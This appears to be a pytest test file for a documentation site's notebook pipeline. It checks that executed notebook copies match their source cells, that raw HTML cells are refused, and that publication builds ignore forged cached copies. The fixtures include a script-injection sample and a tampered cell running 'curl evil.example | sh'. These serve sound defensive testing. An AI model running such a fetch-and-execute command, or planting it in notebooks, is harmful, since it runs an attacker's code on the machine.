"""A notebook page shows only what its notebook ran: an executed copy must hold the notebook's
own cells, a raw cell (its text reaches the page as it is) is refused, and a publication
build executes every notebook itself, trusting no copy that .cache/ (which a pull request can
commit with ``git add -f``) or the machine store holds. Expected outputs come from running
``print(6 * 7)`` (or, where the build runs the notebook, ``6 * 7``: a notebook may use only the
names ``verify/block_names.py`` lists for notebooks, and ``print`` is none), typed here, never
from the code under test."""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace

import pytest

import hooks.notebooks.execute as notebooks
from hooks.checks.active_content import check_notebook_cells
from hooks.errors import RenderError
from hooks.notebooks.pages import use_executed_notebooks


def notebook(*cells: dict) -> dict:
    return {
        "cells": list(cells),
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def code(source: str, outputs=()) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": f"c{abs(hash(source)) % 10**8}",
        "metadata": {},
        "outputs": list(outputs),
        "source": source,
    }


def markdown(source: str) -> dict:
    return {"cell_type": "markdown", "id": f"m{abs(hash(source)) % 10**8}", "metadata": {}, "source": source}


def stdout(text: str) -> dict:
    return {"name": "stdout", "output_type": "stream", "text": text}


def write(path: Path, nb: dict) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def test_a_raw_cell_is_refused(tmp_path):
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>alert(1)</script>"}
    with pytest.raises(RenderError, match="cell 2 is a raw cell"):
        check_notebook_cells(write(tmp_path / "x.ipynb", notebook(markdown("# Titolo"), raw)))


@pytest.mark.parametrize(
    ("executed_cells", "message"),
    [
        (
            [
                markdown("# Titolo"),
                code("print(6 * 7)\nimport os; os.system('curl evil.example | sh')", [stdout("42\n")]),
            ],
            "cell 2 of the executed copy is not the notebook's cell 2",
        ),
        (
            [markdown("# Title"), code("print(6 * 7)", [stdout("42\n")])],
            "cell 1 of the executed copy is not the notebook's cell 1",
        ),
        (
            [markdown("# Titolo"), code("print(6 * 7)", [stdout("42\n")]), code("print('extra')")],
            "the executed copy has 3 cells, the notebook 2",
        ),
    ],
)
def test_an_executed_copy_must_hold_the_notebooks_cells(tmp_path, executed_cells, message):
    source = write(tmp_path / "src.ipynb", notebook(markdown("# Titolo"), code("print(6 * 7)")))
    executed = write(tmp_path / "run.ipynb", notebook(*executed_cells))
    with pytest.raises(RenderError, match=message):
        check_notebook_cells(executed, source)


def test_the_real_executed_copies_hold_their_notebooks_cells(built_site):
    from tests.conftest import REPO_ROOT

    for source in sorted((REPO_ROOT / "docs").glob("*.ipynb")):
        copies = sorted(
            (REPO_ROOT / ".cache" / "notebooks").glob(f"{source.stem}.*.ipynb"), key=lambda p: p.stat().st_mtime
        )
        assert copies, f"no executed copy of {source.name} after a build"
        check_notebook_cells(copies[-1], source)


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A checkout with one notebook per language, and a forged executed copy of each under
    .cache/notebooks, named as a development build looks it up."""
    monkeypatch.setenv("GUIDE_NOTEBOOK_STORE", "off")
    monkeypatch.setattr(notebooks, "_executed", {})
    root = tmp_path / "repo"
    (root / "docs").mkdir(parents=True)
    (root / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    files = []
    for lang in ("it", "fr"):
        src = write(root / "docs" / f"calcolo.{lang}.ipynb", notebook(code("6 * 7")))
        key = notebooks.cache_key(src.resolve(), root, lang, "python3")
        write(
            root / ".cache" / "notebooks" / f"{src.stem}.{key[:20]}.ipynb",
            notebook(code("6 * 7", [stdout("FORGED 3 GB\n")])),
        )
        files.append(SimpleNamespace(src_uri=src.name, abs_src_path=str(src)))
    config = SimpleNamespace(
        config_file_path=str(root / "mkdocs.yml"),
        docs_dir=str(root / "docs"),
        plugins={"mkdocs-jupyter": SimpleNamespace(config={"kernel_name": "python3"})},
    )
    yield files, config


def outputs(files) -> list[str]:
    def text(output) -> str:  # a stream's text, or a result's (``6 * 7`` -> "42")
        value = output.get("text", (output.get("data") or {}).get("text/plain", ""))
        return "".join(value) if isinstance(value, list) else value

    return [
        "".join(
            text(out)
            for cell in json.loads(Path(f.abs_src_path).read_text(encoding="utf-8"))["cells"]
            for out in cell.get("outputs", [])
        )
        for f in files
    ]


def test_a_development_build_uses_the_checkouts_executed_copies(repo):
    files, config = repo
    assert outputs(use_executed_notebooks(files, config, "it")) == ["FORGED 3 GB\n"] * 2
    jupyter = config.plugins["mkdocs-jupyter"].config
    assert jupyter["cache"] is True and Path(jupyter["cache_dir"]).is_relative_to(
        Path(config.docs_dir).parent / ".cache"
    )


def test_a_publication_build_executes_every_notebook_itself(repo):
    files, config = repo
    published = use_executed_notebooks(files, config, "it", publication=True)
    assert outputs(published) == ["42"] * 2
    assert all(".cache" not in Path(f.abs_src_path).parts for f in published)
    jupyter = config.plugins["mkdocs-jupyter"].config  # mkdocs-jupyter's HTML cache is not read either
    assert jupyter["cache"] is False and not Path(jupyter["cache_dir"]).is_relative_to(Path(config.docs_dir).parent)
